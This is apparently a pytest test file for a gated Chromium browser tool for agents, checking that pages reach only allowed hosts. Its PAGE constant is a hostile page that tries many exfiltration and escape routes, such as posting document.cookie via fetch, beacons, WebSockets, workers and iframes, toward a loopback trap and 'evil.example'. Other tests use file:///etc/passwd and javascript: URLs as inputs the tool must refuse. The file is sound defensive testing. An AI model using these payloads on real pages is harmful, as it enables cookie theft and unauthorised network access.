"""browser: a real Chromium that reaches nothing but what it may, whatever a page tries. Skipped, visibly, where there is none."""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from capabilities import browser
from capabilities._browser.carry import Carrier, Refused
from capabilities._http.exchange import Limits
from capabilities._http.fetch import Fetcher
from gate import ANY, Denied, Gate
from gate.effect import Risk
from gate.kind import Kind, kind_tool
from tests.capabilities.sites import Script, Site, serving

CHROMIUM = os.environ.get("GATE_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
START = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]


class Trap:
    """A listener on loopback that counts who connects: no page may."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.socket.getsockname()[1]
        self.met: list[bytes] = []
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(0.5)
                try:
                    self.met.append(connection.recv(200))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\nok")
                except OSError:
                    self.met.append(b"")

    def close(self) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join()


PAGE = """<!doctype html><title>attack</title><link rel=preconnect href="http://127.0.0.1:TRAP/"><link rel=dns-prefetch href="//evil.example">
<link rel=prefetch href="http://127.0.0.1:TRAP/prefetch"><link rel=stylesheet href="http://127.0.0.1:TRAP/style"><p id=p>text</p>
<img src="http://127.0.0.1:TRAP/image"><img src="http://evil.example:TRAP/image"><img src="/?to=http://127.0.0.1:TRAP/redirected">
<img src="/?to=/%3Fto=http://127.0.0.1:TRAP/twice"><iframe src="http://127.0.0.1:TRAP/frame"></iframe><iframe src="/?to=http://127.0.0.1:TRAP/f"></iframe>
<iframe src="data:text/html,<img src=http://127.0.0.1:TRAP/data>"></iframe><iframe src="javascript:fetch('http://127.0.0.1:TRAP/js')"></iframe>
<iframe srcdoc="<img src=http://127.0.0.1:TRAP/srcdoc>"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://127.0.0.1:TRAP/o"></object>
<video src="http://127.0.0.1:TRAP/video"></video><script src="http://127.0.0.1:TRAP/script"></script><a id=d download href="http://127.0.0.1:TRAP/d">d</a>
<form id=f method=post action="http://127.0.0.1:TRAP/form" target=i><input name=a value=b></form><iframe name=i></iframe><a id=g ping="http://127.0.0.1:TRAP/ping">p</a>
<script>
const at = 'http://127.0.0.1:TRAP/', tried = [];
const each = [() => fetch(at + 'fetch', {mode: 'no-cors'}), () => fetch(at + 'post', {method: 'POST', mode: 'no-cors', body: document.cookie}),
  () => navigator.sendBeacon(at + 'beacon', 'x'), () => new WebSocket('ws://127.0.0.1:TRAP/socket'), () => new EventSource(at + 'events'),
  () => { const x = new XMLHttpRequest(); x.open('GET', at + 'xhr'); x.send() }, () => window.open(at + 'window'),
  () => new Worker(URL.createObjectURL(new Blob([`fetch('${at}worker', {mode: 'no-cors'})`]))),
  () => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${at}shared', {mode: 'no-cors'})`]))),
  () => navigator.serviceWorker.register('/?say=sw'),
  () => document.getElementById('f').submit(), () => document.getElementById('d').click(), () => document.getElementById('g').click(),
  () => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src=${at}blob>`], {type: 'text/html'}));
    document.body.append(f) },
  () => fetch('/?to=' + at + 'redirect'), () => new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:TRAP'}]}).createDataChannel('x'),
  () => new WebTransport('https://127.0.0.1:TRAP/'), () => import(at + 'module'), () => new Image().src = 'http://[::1]:TRAP/six',
  () => new Image().src = 'http://2130706433:TRAP/decimal', () => fetch('file:///etc/passwd').then(r => r.text()).then(t => tried.push(t))];
for (const one of each) try { const made = one(); made && made.catch && made.catch(() => 0) } catch {}
setTimeout(() => { document.getElementById('p').textContent = 'done ' + tried.join(); }, 700);
</script>"""


class Attack(Site):
    """The site, with the page at `/attack`."""

    trap = 0

    def do_GET(self) -> None:
        if urlsplit(self.path).path == "/attack":
            self.seen.append(("GET", self.path, {}))
            self.answer(
                200, PAGE.replace("TRAP", str(self.trap)).encode(), ("Content-Type", "text/html"), ("Set-Cookie", "who=me"), ("Set-Cookie", "b=c")
            )
        elif "page" in parse_qs(urlsplit(self.path).query):
            self.seen.append((self.command, self.path, {name.lower(): value for name, value in self.headers.items()}))
            self.answer(200, parse_qs(urlsplit(self.path).query)["page"][0].encode(), ("Content-Type", "text/html"))
        else:
            super().do_GET()

    do_POST = do_GET


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.close()


@pytest.fixture(scope="module")
def port(trap: Trap) -> Iterator[int]:
    Attack.trap = trap.port
    with serving(Attack) as number:
        yield number


@pytest.fixture
def sync_browser() -> Iterator[Callable[..., Any]]:
    """Starts Chromium with or without the flags; a fresh page."""
    api = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    with api.sync_playwright() as playwright:
        started: list[Any] = []

        def start(*flags: str) -> Any:
            started.append(playwright.chromium.launch(executable_path=CHROMIUM, args=[*START, *flags]))
            return started[-1].new_context(service_workers="block", accept_downloads=False).new_page()

        yield start
        for one in started:
            one.close()


def options(port: int) -> dict[str, Any]:
    names = Script(site_example=[["127.0.0.1"]], evil_example=[["127.0.0.1"]])
    return {"within": browser.sites("site.example", schemes="http", ports=port), "private": ["site.example"], "resolver": names, "seconds": 10.0}


# --- without a browser


def test_the_kind_is_that_of_a_url() -> None:
    assert isinstance(browser.URL, Kind) and browser.URL.parse("HTTPS://a.example") == "https://a.example/"
    assert browser.URL.assess("https://a.example/").risk == Risk.MEDIUM and browser.URL.assess("http://169.254.169.254/").risk == Risk.CRITICAL
    assert "scripts" in browser.URL.assess("https://a.example/").reasons[-1]
    for url in (
        "data:text/html,x",
        "blob:https://a.example/1",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "about:blank",
        "view-source:https://a.example/",
    ):
        with pytest.raises(ValueError, match="URL|scheme"):
            browser.URL.parse(url)
    described = browser.TOOLS["browser.goto"]
    assert described.requires == {"network"} and described.preview is not None
    assert "a.example" in str(described.preview({"url": "https://a.example/"}))


@pytest.fixture
def carrier(port: int) -> Carrier:
    Site.seen.clear()
    given = options(port)
    hosts = ["site.example", "evil.example"]
    follows, stays = (Fetcher(hosts, follow, Limits(5, 1000), given["resolver"], cookies=True) for follow in (given["within"], None))
    return Carrier(given["within"], follows, stays)


def test_what_is_not_within_is_not_asked_for(carrier: Carrier, port: int) -> None:
    site = f"http://site.example:{port}"
    assert carrier.answer("GET", f"{site}/?say=x", {"Accept": "a", "Host": "evil"}, None, document=False).body == b"x"  # type: ignore[union-attr]
    for method, url, headers in (
        ("GET", f"http://evil.example:{port}/", {}),
        ("POST", f"{site}/", {}),
        ("TRACE", f"{site}/", {}),
        ("GET", f"{site}/?to=http://evil.example:{port}/", {}),
        ("GET", f"{site}/?to=/%3Fto=http://evil.example:{port}/", {}),
        ("GET", f"{site}/?n=1001", {}),
        ("GET", f"{site}/", {"x-a": "{secret:s}"}),
        ("GET", f"{site}/", {"content-length": "5"}),
        ("GET", "data:text/html,x", {}),
        ("GET", "http://127.0.0.1/", {}),
    ):
        assert carrier.answer(method, url, headers, None, document=False) is None, url
    assert len(carrier.refused) == 10 and all(": " in why for why in carrier.refused)
    with pytest.raises(Refused, match="not site.example"):
        carrier.set_out(f"http://evil.example:{port}/")
    away = carrier.set_out(f"{site}/?to=http://evil.example:{port}/")
    assert carrier.answer("GET", away, {}, None, document=True) is None and "not site.example" in carrier.stopped
    assert not [path for _, path, _ in Site.seen if "evil" in path and "to=" not in path]


def test_a_document_that_is_redirected_is_told_to_go_itself(carrier: Carrier, port: int) -> None:
    reply = carrier.answer("GET", f"http://site.example:{port}/?to=/next%22%3E", {}, None, document=True)
    assert reply is not None and reply.status == 200 and b'content="0;url=http://site.example:' in reply.body and b'next"' not in reply.body
    assert "frame-src http: https:" in reply.headers["content-security-policy"]
    there = carrier.set_out(f"http://site.example:{port}/?to=/a")
    blank = carrier.answer("GET", there, {}, None, document=True)
    assert blank is not None and blank.body == b"" and carrier.moved == f"http://site.example:{port}/a"


# --- with one


def test_the_page_would_reach_everything_by_itself(sync_browser: Callable[..., Any], port: int, trap: Trap) -> None:
    """The attack first: without the tool, the same page connects to the trap in many ways."""
    trap.met.clear()
    page = sync_browser("--host-resolver-rules=MAP *.example 127.0.0.1")
    page.goto(f"http://site.example:{port}/attack")
    page.wait_for_timeout(1500)
    paths = {met.split(b" ")[1] for met in trap.met if b" " in met}
    assert {b"/image", b"/frame", b"/fetch", b"/redirected", b"/socket"} <= paths, paths


def test_a_page_reaches_nothing_but_what_it_may(sync_browser: Callable[..., Any], port: int, trap: Trap) -> None:
    trap.met.clear()
    Site.seen.clear()
    page = sync_browser(*browser.FLAGS)
    goto: Any = browser.tool(page, **options(port))
    assert kind_tool(goto) is browser.TOOLS["browser.goto"]
    said = goto(f"http://site.example:{port}/attack")
    assert (said["status"], said["title"], said["url"]) == (200, "attack", f"http://site.example:{port}/attack")
    page.wait_for_function("document.getElementById('p').textContent.startsWith('done')")
    assert page.inner_text("#p").strip() == "done"
    assert trap.met == [] and len(page.context.pages) == 1
    assert {cookie["name"] for cookie in page.context.cookies()} == {"who", "b"}
    assert not [path for method, path, _ in Site.seen if method != "GET"]


def test_the_routes_alone_hold_what_playwright_shows(sync_browser: Callable[..., Any], port: int, trap: Trap) -> None:
    """Without the flags the browser could connect; what is handed over is refused all the same."""
    trap.met.clear()
    page = sync_browser("--host-resolver-rules=MAP *.example 127.0.0.1")
    browser.tool(page, **options(port))(f"http://site.example:{port}/attack")
    page.wait_for_function("document.getElementById('p').textContent.startsWith('done')")
    assert not [met for met in trap.met if met], trap.met  # a bare preconnect sends nothing, and only the flags stop it


def test_pages_links_forms_and_redirects_work_within(sync_browser: Callable[..., Any], port: int) -> None:
    Site.seen.clear()
    page, site = sync_browser(*browser.FLAGS), f"http://site.example:{port}"
    goto: Any = browser.tool(page, **options(port))
    assert goto(f"{site}/?page=<h1>hello</h1>")["text"] == "hello"
    assert goto(f"{site}/?to=/%3Fpage=there")["url"].endswith("/?page=there")
    goto(f"{site}/attack")  # sets cookies
    Site.seen.clear()
    goto(f"{site}/?page=again")
    assert Site.seen[0][2]["cookie"] == "who=me; b=c"
    with pytest.raises(ValueError, match="more than 5 redirects"):
        goto(f"{site}{many()}")
    goto(f"{site}/?page=<a%20id=a%20href=%22/%3Fto=%252F%253Fpage=followed%22>x</a>")
    page.click("#a")
    page.wait_for_url("**/?page=followed")
    with pytest.raises(ValueError, match="not site.example"):
        goto(f"{site}/?to=http://evil.example:{port}/")
    with pytest.raises(ValueError, match="not site.example"):
        goto(f"http://evil.example:{port}/")
    with pytest.raises(Exception, match="Timeout"):
        browser.tool(sync_browser(*browser.FLAGS), **options(port) | {"seconds": 1})(f"{site}/?page=<script>while(true){{}}</script>")
    page.evaluate(f"location.href = 'http://evil.example:{port}/'")
    page.wait_for_timeout(200)
    assert "evil" not in page.evaluate("document.body ? document.body.innerText : ''") and not [
        p for _, p, h in Site.seen if "evil" in h.get("host", "")
    ]


def many() -> str:
    """A path that redirects more often than is followed."""
    path = "/end"
    for _ in range(7):
        path = "/?to=" + path.replace("%", "%25").replace("?", "%3F").replace("=", "%3D").replace("&", "%26")
    return path


def test_behind_a_gate(sync_browser: Callable[..., Any], gate: Gate, port: int) -> None:
    goto: Any = gate.wrap(browser.tool(sync_browser(*browser.FLAGS), **options(port)))
    with gate.acting(gate.grant("agent", tools={"browser.goto": {"url": browser.sites("site.example", schemes="http", ports=port)}})):
        assert goto(f"http://site.example:{port}/?page=hello")["text"] == "hello"
        for url in (f"http://evil.example:{port}/", "data:text/html,x", "file:///etc/passwd", f"http://a@site.example:{port}/", "about:blank"):
            with pytest.raises(Denied):
                goto(url)
    with gate.acting(gate.grant("agent", tools={"browser.goto": {"url": ANY}})), pytest.raises(Exception, match=r"not site.example"):
        goto(f"https://other.example:{port}/")


def test_the_async_api_is_served_the_same_way(port: int, trap: Trap) -> None:
    api = pytest.importorskip("playwright.async_api")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    trap.met.clear()

    async def run() -> Any:
        async with api.async_playwright() as playwright:
            chromium = await playwright.chromium.launch(executable_path=CHROMIUM, args=[*START, *browser.FLAGS])
            page = await (await chromium.new_context(service_workers="block", accept_downloads=False)).new_page()
            goto: Any = browser.tool(page, **options(port))
            said = await goto(f"http://site.example:{port}/attack")
            await page.wait_for_function("document.getElementById('p').textContent.startsWith('done')")
            with pytest.raises(ValueError, match="not site.example"):
                await goto(f"http://evil.example:{port}/")
            pages = len(page.context.pages)
            await chromium.close()
            return said, pages

    said, pages = asyncio.run(run())
    assert said["title"] == "attack" and pages == 1 and trap.met == []
